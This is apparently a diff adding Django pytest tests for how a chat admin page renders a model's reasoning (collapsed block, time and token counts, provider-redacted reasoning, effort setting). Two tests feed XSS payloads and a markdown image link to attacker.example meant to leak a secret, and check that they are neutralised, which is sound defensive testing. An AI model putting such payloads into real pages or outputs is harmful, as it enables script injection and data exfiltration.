@@ -3,7 +3,7 @@ from __future__ import annotations
 import pytest
 
 from chat.models import Message
-from tests.admin.factories import add, make_conversation
+from tests.admin.factories import add, add_reasoning_answer, make_conversation
 
 
 @pytest.fixture
@@ -146,3 +146,97 @@ def test_it_never_lets_model_output_run_scripts_or_load_images(client, alice):
     assert "<img" not in body
     assert "javascript:" not in body.replace("[click](javascript:alert(1))", "")
     assert '<a href="https://attacker.example/collect?q=secret" rel="noopener noreferrer">' in body
+
+
+def reasoning_block(html, answer):
+    """The part of the page for ``answer``: its entry, up to the next one."""
+    start = html.index(f'id="message-{answer.pk}"')
+    end = html.find('<div class="chat-entry', start)
+    return html[start : end if end != -1 else len(html)]
+
+
+@pytest.mark.django_db
+def test_it_shows_reasoning_collapsed_above_the_answer_with_its_time_and_tokens(client, alice):
+    conversation = make_conversation(alice)
+    answer = add_reasoning_answer(conversation)
+    entry = reasoning_block(page(client, conversation), answer)
+    details = entry.index('<details class="chat-reasoning">')
+    assert "<details open" not in entry
+    assert "<summary>Thought for 12 s · 340 reasoning tokens</summary>" in entry
+    # Rendered as the answer's text is: markdown, sanitized.
+    assert "Oslo in <em>winter</em> is cold, so:" in entry
+    assert "<li>wool</li>" in entry
+    assert details < entry.index("Oslo in") < entry.index("Pack <strong>wool</strong>.")
+    assert "provider reasoning state stored" in entry
+    assert "sig-EuYBCkQYAiJA" not in page(client, conversation)
+
+
+@pytest.mark.django_db
+def test_it_leaves_out_what_was_not_measured(client, alice):
+    conversation = make_conversation(alice)
+    no_tokens = add_reasoning_answer(conversation, reasoning_tokens=None, reasoning_ms=1500)
+    no_time = add_reasoning_answer(conversation, reasoning_ms=None, reasoning_tokens=1)
+    neither = add_reasoning_answer(conversation, reasoning_ms=None, reasoning_tokens=None)
+    html = page(client, conversation)
+    assert "<summary>Thought for 1.5 s</summary>" in reasoning_block(html, no_tokens)
+    assert "<summary>1 reasoning token</summary>" in reasoning_block(html, no_time)
+    assert "<summary>Reasoning</summary>" in reasoning_block(html, neither)
+
+
+@pytest.mark.django_db
+def test_it_says_when_the_provider_hid_the_reasoning(client, alice):
+    conversation = make_conversation(alice)
+    partly = add_reasoning_answer(
+        conversation, reasoning="What I may show.", reasoning_redacted=True
+    )
+    wholly = add_reasoning_answer(
+        conversation, reasoning="", reasoning_redacted=True, reasoning_ms=83_000
+    )
+    html = page(client, conversation)
+    shown = reasoning_block(html, partly)
+    assert (
+        "<summary>Thought for 12 s · 340 reasoning tokens · Reasoning hidden by the provider"
+        "</summary>" in shown
+    )
+    assert "What I may show." in shown
+    hidden = reasoning_block(html, wholly)
+    assert "<details" not in hidden  # nothing to open
+    assert (
+        "Thought for 1 min 23 s · 340 reasoning tokens · Reasoning hidden by the provider" in hidden
+    )
+
+
+@pytest.mark.django_db
+def test_it_shows_no_reasoning_for_answers_that_did_not_reason(client, alice):
+    conversation = make_conversation(alice)
+    add(conversation, "user", "Thinking about it")  # the word alone is no reasoning
+    html = page(client, conversation)
+    assert "chat-reasoning" not in html
+    assert "provider reasoning state stored" not in html
+
+
+@pytest.mark.django_db
+def test_it_never_lets_reasoning_run_scripts_or_load_images(client, alice):
+    conversation = make_conversation(alice)
+    answer = add_reasoning_answer(
+        conversation,
+        reasoning="<script>alert(1)</script> <img src=x onerror=alert(1)> "
+        "[click](javascript:alert(1)) ![leak](https://attacker.example/collect?q=secret)",
+    )
+    entry = reasoning_block(page(client, conversation), answer)
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in entry
+    assert "<script>alert" not in entry
+    assert "<img" not in entry
+    assert "javascript:" not in entry.replace("[click](javascript:alert(1))", "")
+    assert '<a href="https://attacker.example/collect?q=secret" rel="noopener noreferrer">' in entry
+
+
+@pytest.mark.django_db
+def test_it_shows_the_conversations_reasoning_effort(client, alice):
+    conversation = make_conversation(alice)
+    conversation.reasoning_effort = "high"
+    conversation.save()
+    html = page(client, conversation)
+    assert "Reasoning effort" in html
+    field = html[html.index("field-reasoning_effort") :]
+    assert "high" in field[: field.index("</div>\n")]
